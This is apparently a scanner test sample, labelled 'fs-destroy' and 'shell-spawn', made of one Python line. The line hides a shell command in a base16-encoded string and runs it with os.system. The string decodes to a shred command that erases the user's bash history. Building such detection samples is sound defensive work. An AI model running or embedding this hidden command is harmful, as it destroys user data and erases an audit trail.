# expect: fs-destroy,shell-spawn
# source: issue 4
# technique: os.system of a base64.b16decode-built shred command
import base64
import os

os.system(base64.b16decode("7368726564202D75207E2F2E626173685F686973746F7279").decode())
